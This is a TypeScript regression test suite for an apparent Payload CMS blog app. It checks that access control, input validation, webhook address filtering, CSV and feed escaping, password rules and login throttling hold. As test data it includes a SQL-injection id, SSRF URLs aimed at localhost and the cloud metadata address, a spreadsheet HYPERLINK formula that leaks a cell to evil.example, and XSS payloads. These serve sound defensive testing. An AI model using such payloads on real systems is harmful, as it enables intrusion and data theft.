/**
 * The trust boundary an outside probe tested (issue #13): each case here failed before the fix,
 * through the REST handler Payload serves and through GraphQL where the probe used it.
 */
import crypto from 'node:crypto'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { configToSchema } from '@payloadcms/graphql'
import { graphql } from 'graphql'
import { createLocalReq, handleEndpoints, type Payload } from 'payload'

import {
  createUser,
  restRequest,
  startTestPayload,
  type TestPayload,
  databaseKinds,
  unknownId,
} from '../helpers/payload'
import { doc, paragraph, text } from '../helpers/lexical'
import { createPostingStudy } from '../helpers/studyGroups'

type Json = Record<string, any>

describe.each(databaseKinds())('on %s', (kind) => {
  let context: TestPayload
  let payload: Payload
  const tokens: Record<string, string> = {}
  const users: Record<string, Json> = {}

  async function rest(
    url: string,
    { method = 'GET', as, json }: { method?: string; as?: string; json?: unknown } = {},
  ) {
    const { status, body } = await restRequest(context, url, { method, body: json, token: as ? tokens[as] : undefined })
    return { status, body: (body ?? {}) as Json }
  }

  /** An id written into a GraphQL query: a number on SQLite, a string on MongoDB. */
  const gqlId = (id: number | string) => JSON.stringify(id)

  async function query(source: string, as?: string) {
    const req = await createLocalReq({ user: as ? (users[as] as never) : undefined }, payload)
    return graphql({ schema: configToSchema(payload.config).schema, source, contextValue: { req, headers: {} } })
  }

  beforeAll(async () => {
    context = await startTestPayload(kind)
    payload = context.payload
    for (const role of ['admin', 'editor', 'operator', 'member']) {
      const user = await createUser(payload, [role])
      const { token } = await payload.login({
        collection: 'users',
        data: { email: user.email, password: 'test-password-1' },
      })
      users[role] = { ...user, collection: 'users' }
      tokens[role] = token!
    }
  })

  afterAll(async () => {
    await context.close()
  })

  /** Signs a test user in under `name`, for `rest(…, { as: name })`. */
  async function signIn(name: string, user: { email: string }) {
    const { token } = await payload.login({
      collection: 'users',
      data: { email: user.email, password: 'test-password-1' },
    })
    tokens[name] = token!
  }

  async function rawRest(url: string, as: string, init: { method: string; body: string; type: string }) {
    const response = await handleEndpoints({
      config: payload.config,
      payloadInstanceCacheKey: context.key,
      request: new Request(`http://localhost:3000/api${url}`, {
        method: init.method,
        headers: { authorization: `JWT ${tokens[as]}`, 'content-type': init.type },
        body: init.body,
      }),
    })
    return { status: response.status, text: await response.text() }
  }

  describe('versions are for editors and admins', () => {
    let postId: number | string
    let retrospectiveId: number | string

    beforeAll(async () => {
      const post = await payload.create({
        collection: 'posts',
        data: { title: 'Public title', _status: 'published' },
      })
      postId = post.id
      // A draft saved over the published post: only the versions hold it.
      await payload.update({
        collection: 'posts',
        id: post.id,
        data: { title: 'Secret draft title' },
        draft: true,
      })
      const retrospective = await payload.create({
        collection: 'retrospectives',
        data: { title: 'Draft retrospective', period: { kind: 'year', year: 2031 }, _status: 'draft' },
      })
      retrospectiveId = retrospective.id
    })

    it.each(['member', 'operator', undefined])('refuses %s over REST', async (as) => {
      const versions = await rest('/posts/versions', { as })
      expect(versions.status).toBe(403)
      expect(JSON.stringify(versions.body)).not.toContain('Secret draft title')
      const { body } = await rest(`/posts/versions?where[parent][equals]=${postId}`, { as: 'editor' })
      const versionId = body.docs[0].id
      const one = await rest(`/posts/versions/${versionId}`, { as })
      expect(one.status).toBe(403)
      expect(JSON.stringify(one.body)).not.toContain('Secret draft title')
      expect((await rest('/retrospectives/versions', { as })).status).toBe(403)
    })

    it.each(['member', 'operator'])('refuses %s over GraphQL', async (as) => {
      const result = await query(
        `{ versionsPosts { docs { version { title } } } versionsRetrospectives { docs { version { title } } } }`,
        as,
      )
      expect(result.errors?.[0]?.message).toMatch(/not allowed/i)
      expect(JSON.stringify(result.data)).not.toContain('Secret draft title')
      const [version] = (
        await payload.findVersions({ collection: 'posts', where: { parent: { equals: postId } }, limit: 1 })
      ).docs
      const one = await query(`{ versionPost(id: ${gqlId(version.id)}) { version { title } } }`, as)
      expect(one.errors?.[0]?.message).toMatch(/not allowed/i)
    })

    it('lets editors read them', async () => {
      const { status, body } = await rest(`/posts/versions?where[parent][equals]=${postId}`, { as: 'editor' })
      expect(status).toBe(200)
      expect(body.docs.map((doc: Json) => doc.version.title)).toContain('Secret draft title')
      const graph = await query(`{ versionsRetrospectives { docs { version { title } } } }`, 'editor')
      expect(graph.errors).toBeUndefined()
      expect(JSON.stringify(graph.data)).toContain('Draft retrospective')
      expect(retrospectiveId).toBeDefined()
    })
  })

  describe('no filtering or sorting on fields the reader cannot read', () => {
    it.each([
      ['where[sessions.id][like]=a'],
      ['where[sessions.expiresAt][greater_than]=2000-01-01'],
      ['where[sessions.createdAt][exists]=true'],
      ['sort=sessions.expiresAt'],
      ['where[or][0][sessions.id][exists]=true'],
      ['where[loginAttempts][equals]=0'],
    ])('answers 400 to everyone for %s', async (search) => {
      for (const as of [undefined, 'member', 'admin']) {
        const response = await rest(`/users?${search}`, { as })
        expect({ as, status: response.status }).toEqual({ as, status: 400 })
        expect(response.body.errors[0].message).toMatch(/cannot be queried/)
      }
    })

    it('keeps refusing email to those who cannot read it, and allows it to admins', async () => {
      for (const as of [undefined, 'member', 'editor'])
        expect((await rest('/users?where[email][like]=a', { as })).status).toBe(400)
      expect((await rest('/users?where[email][like]=test&sort=email', { as: 'admin' })).status).toBe(200)
    })

    it('still filters and sorts on readable fields', async () => {
      const response = await rest('/users?where[name][exists]=true&sort=-createdAt')
      expect(response.status).toBe(200)
      expect(response.body.docs.length).toBeGreaterThan(0)
    })
  })

  describe('publication status', () => {
    it.each([
      ['pending', 'pending'],
      ['empty', ''],
      ['100k characters', 'x'.repeat(100_000)],
    ])('refuses a _status that is %s with a 400 naming the field', async (_, status) => {
      const before = await payload.count({ collection: 'posts', overrideAccess: true })
      const response = await rest('/posts', {
        method: 'POST',
        as: 'editor',
        json: { title: `Status ${status.slice(0, 10)}`, _status: status },
      })
      expect(response.status).toBe(400)
      expect(JSON.stringify(response.body)).toContain('_status')
      expect(await payload.count({ collection: 'posts', overrideAccess: true })).toEqual(before)
    })
  })

  describe('deletes that other documents still need', () => {
    it('answers 409 naming what refers to the document, and deletes nothing', async () => {
      const study = await createPostingStudy(payload, { name: 'Delete guard', members: 1, weeks: 1 })
      const [person] = study.people
      const session = await payload.create({
        collection: 'study-sessions',
        data: { cohort: study.cohort.id, number: 1, date: '2026-03-02T11:00:00.000Z' },
      })
      await payload.create({
        collection: 'submissions',
        data: {
          membership: person.membership.id,
          session: session.id,
          url: 'https://blog.example.com/1',
          submittedAt: new Date().toISOString(),
        },
      })
      const membership = await rest(`/memberships/${person.membership.id}`, { method: 'DELETE', as: 'admin' })
      expect(membership.status).toBe(409)
      expect(membership.body.errors[0].message).toMatch(/1 submissions \(membership\)/)
      const member = await rest(`/members/${person.member.id}`, { method: 'DELETE', as: 'admin' })
      expect(member.status).toBe(409)
      expect(member.body.errors[0].message).toMatch(/memberships \(member\)/)
      const graph = await query(`mutation { deleteMember(id: ${gqlId(person.member.id)}) { id } }`, 'admin')
      expect(graph.errors?.[0]?.message).toMatch(/still referred to/)
      expect(
        await payload.count({ collection: 'memberships', where: { id: { equals: person.membership.id } } }),
      ).toEqual({
        totalDocs: 1,
      })
    })
  })

  describe('ids are parsed strictly', () => {
    it.each(['2abc', 'abc', '1e400', 'me', '1.5', "1' OR '1'='1", '-1'])('answers 400 for %j', async (id) => {
      const post = await payload.create({ collection: 'posts', data: { title: `Id ${id}`, _status: 'published' } })
      for (const method of ['GET', 'PATCH', 'DELETE']) {
        const response = await rest(`/posts/${encodeURIComponent(id)}`, {
          method,
          as: 'admin',
          json: method === 'PATCH' ? { title: 'changed' } : undefined,
        })
        expect({ method, status: response.status }).toEqual({ method, status: 400 })
      }
      expect(await payload.findByID({ collection: 'posts', id: post.id })).toMatchObject({ title: `Id ${id}` })
      const users = await rest(`/users/${encodeURIComponent(id)}`, { method: 'DELETE', as: 'admin' })
      expect(users.status).toBe(400)
    })
  })

  describe('an operator reaches only the people of their own groups', () => {
    let a: Awaited<ReturnType<typeof createPostingStudy>>
    let b: Awaited<ReturnType<typeof createPostingStudy>>
    let outsider: Json

    beforeAll(async () => {
      a = await createPostingStudy(payload, { name: 'Group A', members: 1, weeks: 1 })
      b = await createPostingStudy(payload, { name: 'Group B', members: 2, weeks: 1 })
      outsider = b.people[0].member
      await payload.update({ collection: 'members', id: outsider.id, data: { phone: '010-0000-0000' } })
      await signIn('operatorA', a.operator)
      await signIn('memberB', b.people[0].user)
      await signIn('otherMemberB', b.people[1].user)
    })

    it('cannot enrol someone from another group, and so never reads their private fields', async () => {
      const enrol = await rest('/memberships', {
        method: 'POST',
        as: 'operatorA',
        json: { member: outsider.id, cohort: a.cohort.id, role: 'member', status: 'active' },
      })
      expect(enrol.status).toBe(400)
      expect(enrol.body.errors[0].message).toMatch(/member/)
      // The same answer as for an id nobody has: the refusal tells nothing about who exists.
      const unknown = await rest('/memberships', {
        method: 'POST',
        as: 'operatorA',
        json: { member: unknownId(kind), cohort: a.cohort.id, role: 'member', status: 'active' },
      })
      expect(unknown.status).toBe(400)
      expect(unknown.body.errors[0].message).toMatch(/member/)
      const graph = await query(
        `mutation { createMembership(data: { member: ${gqlId(outsider.id)}, cohort: ${gqlId(a.cohort.id)}, role: member, status: active }) { id } }`,
        'operator',
      )
      expect(graph.errors?.[0]?.message).toMatch(/member|not allowed/i)

      const read = await rest(`/members/${outsider.id}`, { as: 'operatorA' })
      expect(read.body.email).toBeUndefined()
      expect(read.body.phone).toBeUndefined()
      const roster = await rawRest(`/cohorts/${a.cohort.id}/roster.csv`, 'operatorA', {
        method: 'GET',
        body: undefined as never,
        type: 'text/plain',
      })
      expect(roster.status).toBe(200)
      expect(roster.text).not.toContain(String(outsider.email))
    })

    it('lets a person apply to a cohort as themself, which the operator then reaches', async () => {
      const forSomeoneElse = await rest('/memberships', {
        method: 'POST',
        as: 'otherMemberB',
        json: { member: outsider.id, cohort: a.cohort.id },
      })
      expect(forSomeoneElse.status).toBe(403)
      const applied = await rest('/memberships', {
        method: 'POST',
        as: 'memberB',
        json: { member: outsider.id, cohort: a.cohort.id, role: 'organizer', status: 'active' },
      })
      expect(applied.status).toBe(201)
      expect(applied.body.doc).toMatchObject({ role: 'member', status: 'applied' })
      const read = await rest(`/members/${outsider.id}`, { as: 'operatorA' })
      expect(read.body.email).toBe(outsider.email)
    })

    it('imports new people instead of renaming or revealing people outside its groups', async () => {
      const stranger = b.people[1].member
      const byHandle = await rawRest(`/cohorts/${a.cohort.id}/import?dryRun=true`, 'operatorA', {
        method: 'POST',
        type: 'text/csv',
        body: `name,handle\nRenamed,${stranger.handle}\n`,
      })
      const handleReport = JSON.parse(byHandle.text)
      expect(handleReport.errors).toEqual([
        { line: 2, reason: `handle "${stranger.handle}" is taken by another member` },
      ])

      const csv = `name,email\nSomeone New,${stranger.email}\n`
      const dry = JSON.parse(
        (
          await rawRest(`/cohorts/${a.cohort.id}/import?dryRun=true`, 'operatorA', {
            method: 'POST',
            type: 'text/csv',
            body: csv,
          })
        ).text,
      )
      expect(dry.rows).toEqual([expect.objectContaining({ member: 'create', memberId: null })])
      const applied = await rawRest(`/cohorts/${a.cohort.id}/import?dryRun=false`, 'operatorA', {
        method: 'POST',
        type: 'text/csv',
        body: csv,
      })
      expect(applied.status === 200 ? 200 : applied.text).toBe(200)
      const unchanged = await payload.findByID({ collection: 'members', id: stranger.id })
      expect(unchanged.displayName).toBe(stranger.displayName)
      const strangerInA = await payload.count({
        collection: 'memberships',
        where: { and: [{ member: { equals: stranger.id } }, { cohort: { equals: a.cohort.id } }] },
      })
      expect(strangerInA.totalDocs).toBe(0)
    })

    it('keeps the sign-in account, the creator and submission owners to those entitled', async () => {
      expect((await rest(`/members/${outsider.id}`)).body.user).toBeUndefined()
      expect((await rest(`/members/${outsider.id}`, { as: 'otherMemberB' })).body.user).toBeUndefined()
      const self = b.people[1]
      const patched = await rest(`/members/${self.member.id}`, {
        method: 'PATCH',
        as: 'otherMemberB',
        json: { createdBy: a.operator.id },
      })
      expect(patched.status).toBe(200)
      const stored = await payload.findByID({ collection: 'members', id: self.member.id, depth: 0 })
      expect(String(stored.createdBy)).not.toBe(String(a.operator.id))
      expect((await rest(`/members/${self.member.id}`, { as: 'operatorA' })).body.email).toBeUndefined()

      const session = await payload.create({
        collection: 'study-sessions',
        data: { cohort: b.cohort.id, number: 1, date: '2026-03-02T11:00:00.000Z' },
      })
      const submission = await payload.create({
        collection: 'submissions',
        data: {
          membership: b.people[0].membership.id,
          session: session.id,
          url: 'https://b.example.com/1',
          submittedAt: new Date().toISOString(),
        },
      })
      expect((await rest(`/submissions/${submission.id}`, { as: 'otherMemberB' })).body.memberUser).toBeUndefined()
      expect((await rest(`/submissions/${submission.id}`, { as: 'memberB' })).body.memberUser).toBeDefined()
    })
  })

  describe('webhooks reach public addresses only', () => {
    it.each([
      'http://127.0.0.1:9/hook',
      'http://localhost/hook',
      'http://[::ffff:127.0.0.1]/hook',
      'http://2130706433/hook',
      'http://0.0.0.0/hook',
      'http://169.254.169.254/latest/meta-data',
      'http://10.0.0.8/hook',
      'ftp://hooks.example.com/',
    ])('refuses to register %s, over REST and GraphQL', async (url) => {
      const response = await rest('/webhooks', {
        method: 'POST',
        as: 'editor',
        json: { url, events: ['publish'], collections: ['posts'], secret: 'sixteen-characters!' },
      })
      expect(response.status).toBe(400)
      expect(JSON.stringify(response.body)).toMatch(/url/i)
      const graph = await query(
        `mutation { createWebhook(data: { url: ${JSON.stringify(url)}, events: publish, collections: posts, secret: "sixteen-characters!" }) { id } }`,
        'editor',
      )
      expect(graph.errors?.[0]?.message).toBeDefined()
      expect(await payload.count({ collection: 'webhooks', where: { url: { equals: url } } })).toEqual({ totalDocs: 0 })
    })

    it('refuses again at delivery, for a webhook stored before the rule', async () => {
      const hits: string[] = []
      const receiver = http.createServer((req, res) => {
        hits.push(String(req.url))
        res.writeHead(204).end()
      })
      await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve))
      const url = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`
      try {
        // Written past validation, as a row from before this check or a name whose DNS changed.
        await payload.db.create({
          collection: 'webhooks',
          data: { url, events: ['publish'], collections: ['posts'], secret: 'sixteen-characters!', active: true },
        })
        await payload.create({ collection: 'posts', data: { title: 'Published for the hook', _status: 'published' } })
        await payload.jobs.run()
        const { docs } = await payload.find({ collection: 'webhook-deliveries', sort: '-createdAt', limit: 1 })
        expect(docs[0]).toMatchObject({ status: 'retrying', lastStatus: null })
        expect(docs[0].lastError).toMatch(/private or local address/)
        expect(hits).toEqual([])
      } finally {
        await new Promise((resolve) => receiver.close(resolve))
      }
    })
  })

  describe('exports and feeds carry text, never markup or formulas', () => {
    it('neutralises formula cells in roster.csv and status.csv', async () => {
      const study = await createPostingStudy(payload, { name: 'CSV guard', members: 1, weeks: 1 })
      const formula = '=HYPERLINK("http://evil.example/?x="&C3,"Open")'
      await payload.update({
        collection: 'members',
        id: study.people[0].member.id,
        data: { displayName: formula, blogUrl: 'https://evil.example/' },
      })
      await signIn('csvOperator', study.operator)
      for (const file of ['roster.csv', 'status.csv']) {
        const { status, text } = await rawRest(`/cohorts/${study.cohort.id}/${file}`, 'csvOperator', {
          method: 'GET',
          body: undefined as never,
          type: 'text/plain',
        })
        expect(status).toBe(200)
        expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&C3,""Open"")"`)
        expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
      }
    })

    it('escapes titles and summaries in RSS and Atom, and gives JSON Feed the plain text', async () => {
      const excerpt = '<script>alert(3)</script><img src=x onerror=alert(4)> & more'
      await payload.create({
        collection: 'posts',
        data: {
          title: 'Feed <b>bold</b> title',
          excerpt,
          content: doc(paragraph(text('The body.'))) as never,
          _status: 'published',
        },
      })
      const read = async (url: string) => {
        const response = await handleEndpoints({
          config: payload.config,
          payloadInstanceCacheKey: context.key,
          request: new Request(`http://localhost:3000/api${url}`),
        })
        return response.text()
      }
      for (const url of ['/feed.xml', '/atom.xml']) {
        const xml = await read(url)
        expect(xml).toContain('&lt;script&gt;alert(3)&lt;/script&gt;&lt;img src=x onerror=alert(4)&gt; &amp; more')
        expect(xml).not.toContain('<script>')
        expect(xml).not.toContain('<img src=x')
      }
      // Atom titles are `type="html"`; RSS readers often render titles as HTML too.
      expect(await read('/atom.xml')).toContain(
        '<title type="html"><![CDATA[Feed &lt;b&gt;bold&lt;/b&gt; title]]></title>',
      )
      expect(await read('/feed.xml')).toContain('<title><![CDATA[Feed &lt;b&gt;bold&lt;/b&gt; title]]></title>')
      const json = JSON.parse(await read('/feed.json'))
      const item = json.items.find((entry: Json) => entry.title === 'Feed <b>bold</b> title')
      expect(item.summary).toBe(excerpt)
    })
  })

  describe('bad input is a 4xx naming the problem, and stores nothing', () => {
    let cohort: Json
    let group: Json

    beforeAll(async () => {
      const study = await createPostingStudy(payload, { name: 'Bad input', members: 1, weeks: 1 })
      cohort = study.cohort
      group = study.group
    })

    it.each([
      [
        'cohort with an empty end date',
        '/cohorts',
        () => ({ group: group.id, label: 'x', startDate: '2027-01-01', endDate: '' }),
        /endDate/,
      ],
      [
        'post with objects as previous slugs',
        '/posts',
        () => ({ title: 'Half written', _status: 'published', previousSlugs: [{ slug: 'x' }] }),
        /previousSlugs/,
      ],
      ['post with an invalid date', '/posts', () => ({ title: 'Bad date', publishedAt: 'notadate' }), /publishedAt/],
      ['post with a list as excerpt', '/posts', () => ({ title: 'x', excerpt: ['a'] }), /excerpt/],
      ['post with null meta', '/posts', () => ({ title: 'x', meta: null }), /meta/],
      ['retrospective with null period', '/retrospectives', () => ({ period: null }), /period/],
      [
        'retrospective with text sections',
        '/retrospectives',
        () => ({ period: { kind: 'year', year: 2040 }, sections: 'x' }),
        /sections/,
      ],
      [
        'post with an empty object as previous slug',
        '/posts',
        () => ({ title: 'ps', previousSlugs: [{}] }),
        /previousSlugs/,
      ],
      ['null body', '/posts', () => null, /JSON object/],
      ['number body', '/posts', () => 123, /JSON object/],
    ])('%s', async (_, url, data, problem) => {
      const before = await payload.count({ collection: url.slice(1) as 'posts', overrideAccess: true })
      const response = await rest(url, { method: 'POST', as: 'admin', json: data() })
      expect(response.status).toBeGreaterThanOrEqual(400)
      expect(response.status).toBeLessThan(500)
      expect(JSON.stringify(response.body)).toMatch(problem)
      expect(await payload.count({ collection: url.slice(1) as 'posts', overrideAccess: true })).toEqual(before)
    })

    it('stores an empty date, relation or list as none, and a null list as no rows', async () => {
      const session = await rest('/study-sessions', {
        method: 'POST',
        as: 'admin',
        json: { cohort: cohort.id, number: 7, date: '2027-01-01T00:00:00Z', deadline: '' },
      })
      expect(session.status).toBe(201)
      expect(session.body.doc.deadline ?? null).toBeNull()
      const retrospective = await rest('/retrospectives', {
        method: 'POST',
        as: 'admin',
        json: { period: { kind: 'year', year: 2041 }, goals: null },
      })
      expect(retrospective.status).toBe(201)
      expect(retrospective.body.doc.goals).toEqual([])
    })

    it.each([
      ['/posts?limit=1.5', /limit/],
      ['/posts?limit=Infinity', /limit/],
      ['/posts?limit=1e400', /limit/],
      ['/posts?page=1.5', /page/],
      ['/posts?where[id][in]=1,2,x', /where\[id\]\[in\]/],
      ['/posts?where[id][equals]=1e400', /where\[id\]\[equals\]/],
      ['/posts?where[publishedAt][equals]=notadate', /where\[publishedAt\]/],
      ['/posts?where[title][near]=1,2', /near/],
      ['/posts?where[title][within]=x', /within/],
      ['/posts?where[title][equals][0]=a&where[title][equals][1]=b', /one value/],
      ['/posts/%E0%A4%A', /%-escape/],
      ['/tags/versions', /no versions/],
      ['/cohorts/versions/1', /no versions/],
    ])('GET %s', async (url, problem) => {
      const response = await rest(url, { as: 'admin' })
      expect(response.status).toBeGreaterThanOrEqual(400)
      expect(response.status).toBeLessThan(500)
      expect(JSON.stringify(response.body)).toMatch(problem)
    })

    it.each([[[1]], [{ a: 1 }], ['abc']])('refuses %j as the session of a submission', async (session) => {
      const response = await rest('/submissions/submit', {
        method: 'POST',
        as: 'admin',
        json: { session, url: 'https://x.example.com' },
      })
      expect(response.status).toBe(400)
      expect(response.body.errors[0].message).toMatch(/^session/)
    })

    it('answers a truncated multipart body with a 400', async () => {
      const response = await rawRest('/posts', 'admin', {
        method: 'POST',
        type: 'multipart/form-data; boundary=x',
        body: '--x\r\nbroken',
      })
      expect(response.status).toBe(400)
      expect(response.text).toMatch(/multipart/)
    })
  })

  describe('accounts', () => {
    it.each([
      ['short', 'short-pw1', /at least 10 characters/],
      ['blank', ' '.repeat(12), /at least 10 characters besides spaces/],
      ['short but padded', '   pw-short   ', /at least 10 characters besides spaces/],
      ['common', 'password123', /most common/],
      ['common, other case', 'QWERTY1234', /most common/],
    ])('refuses a %s password when an account is created or its password changed', async (_, password, problem) => {
      const created = await rest('/users', {
        method: 'POST',
        as: 'admin',
        json: { email: `weak-${password.length}-${Date.now()}@test.local`, password },
      })
      expect(created.status).toBe(400)
      expect(JSON.stringify(created.body)).toMatch(problem)
      const changed = await rest(`/users/${users.member.id}`, { method: 'PATCH', as: 'admin', json: { password } })
      expect(changed.status).toBe(400)
      const graph = await query(
        `mutation { createUser(data: { email: "weak-graph@test.local", password: ${JSON.stringify(password)} }) { id } }`,
        'admin',
      )
      expect(graph.errors?.[0]?.message).toBeDefined()
    })

    it('accepts a long, uncommon password', async () => {
      const created = await rest('/users', {
        method: 'POST',
        as: 'admin',
        json: { email: 'strong@test.local', password: 'correct horse battery staple' },
      })
      expect(created.status).toBe(201)
    })

    it('issues ten parallel logins to one account ten tokens that all work', async () => {
      const user = await createUser(payload, ['member'])
      // A failed attempt first: it must not hold the account's logins back for good.
      expect(
        (await rest('/users/login', { method: 'POST', json: { email: user.email, password: 'wrong-password-1' } }))
          .status,
      ).toBe(401)
      const logins = await Promise.all(
        Array.from({ length: 10 }, () =>
          rest('/users/login', { method: 'POST', json: { email: user.email, password: 'test-password-1' } }),
        ),
      )
      expect(logins.map((login) => login.status)).toEqual(Array(10).fill(200))
      const tokens = logins.map((login) => login.body.token as string)
      expect(new Set(tokens).size).toBe(10)
      for (const [index, token] of tokens.entries()) {
        const me = await handleEndpoints({
          config: payload.config,
          payloadInstanceCacheKey: context.key,
          request: new Request('http://localhost:3000/api/users/me', { headers: { authorization: `JWT ${token}` } }),
        })
        expect({ index, user: ((await me.json()) as Json).user?.email }).toEqual({ index, user: user.email })
      }
    })
  })

  describe('unknown and known accounts', () => {
    it('get the same password check, through REST and GraphQL', async () => {
      const user = await createUser(payload, ['member'])
      const stored = (await payload.db.findOne({ collection: 'users', where: { id: { equals: user.id } } })) as Json
      // The parameters Devlog's decoy check uses (collections/core/logins.ts) are Payload's current ones.
      expect(stored.hash).toMatch(/^pbkdf2-sha256-v1:[0-9a-f]{64}$/)
      const derivations: Array<[number, number, string]> = []
      const derive = crypto.pbkdf2
      crypto.pbkdf2 = ((...args: Parameters<typeof crypto.pbkdf2>) => {
        derivations.push([args[2], args[3], args[4]])
        return derive(...args)
      }) as typeof crypto.pbkdf2
      const attempt = async (email: string) => {
        const response = await rest('/users/login', { method: 'POST', json: { email, password: 'wrong-password-1' } })
        const graph = await query(
          `mutation { loginUser(email: ${JSON.stringify(email)}, password: "wrong-password-1") { token } }`,
        )
        return { status: response.status, graphError: graph.errors?.[0]?.message, derivations: derivations.splice(0) }
      }
      try {
        const known = await attempt(user.email)
        const unknown = await attempt('nobody-registered@test.local')
        expect(known.status).toBe(401)
        expect(known.derivations).toEqual([
          [600_000, 32, 'sha256'],
          [600_000, 32, 'sha256'],
        ])
        expect(unknown).toEqual(known)
      } finally {
        crypto.pbkdf2 = derive
      }
    })
  })

  describe('login throttling', () => {
    const login = async (email: string, password: string, address: string) => {
      const response = await handleEndpoints({
        config: payload.config,
        payloadInstanceCacheKey: context.key,
        request: new Request('http://localhost:3000/api/users/login', {
          method: 'POST',
          // As Devlog's server names the socket's address (src/http/clientAddress.ts).
          headers: { 'content-type': 'application/json', 'x-devlog-client-address': address },
          body: JSON.stringify({ email, password }),
        }),
      })
      return {
        status: response.status,
        retryAfter: response.headers.get('retry-after'),
        body: (await response.json()) as Json,
      }
    }

    // Throttling is per process (every route's copy of the module shares it), and so shared by
    // the runs on each database: each run comes from addresses of its own.
    const address = (last: number) => `${kind === 'sqlite' ? '203.0.113' : '198.51.100'}.${last}`

    it('makes an address wait after five failures, answering 429 with Retry-After', async () => {
      const owner = await createUser(payload, ['admin'])
      for (let attempt = 1; attempt <= 5; attempt++)
        expect({ attempt, status: (await login(owner.email, 'wrong-password-1', address(7))).status }).toEqual({
          attempt,
          status: 401,
        })
      const throttled = await login(owner.email, 'wrong-password-1', address(7))
      expect(throttled.status).toBe(429)
      expect(Number(throttled.retryAfter)).toBeGreaterThanOrEqual(1)
      expect(throttled.body.errors[0].message).toMatch(/Too many failed logins/)
      // Even the right password waits from that address…
      expect((await login(owner.email, 'test-password-1', address(7))).status).toBe(429)
      // …while the owner, from their own address, is not locked out.
      expect((await login(owner.email, 'test-password-1', address(2))).status).toBe(200)
    })

    it('allows an address 100 logins an hour', async () => {
      for (let attempt = 1; attempt <= 100; attempt++) {
        const { status } = await login(`nobody-${attempt}@test.local`, 'wrong-password-1', address(99))
        if (status !== 401) throw new Error(`attempt ${attempt}: ${status}`)
      }
      const refused = await login('nobody-101@test.local', 'wrong-password-1', address(99))
      expect(refused.status).toBe(429)
      expect(refused.body.errors[0].message).toMatch(/from this address/)
      expect((await login('nobody-101@test.local', 'wrong-password-1', address(100))).status).toBe(401)
    })
  })
})
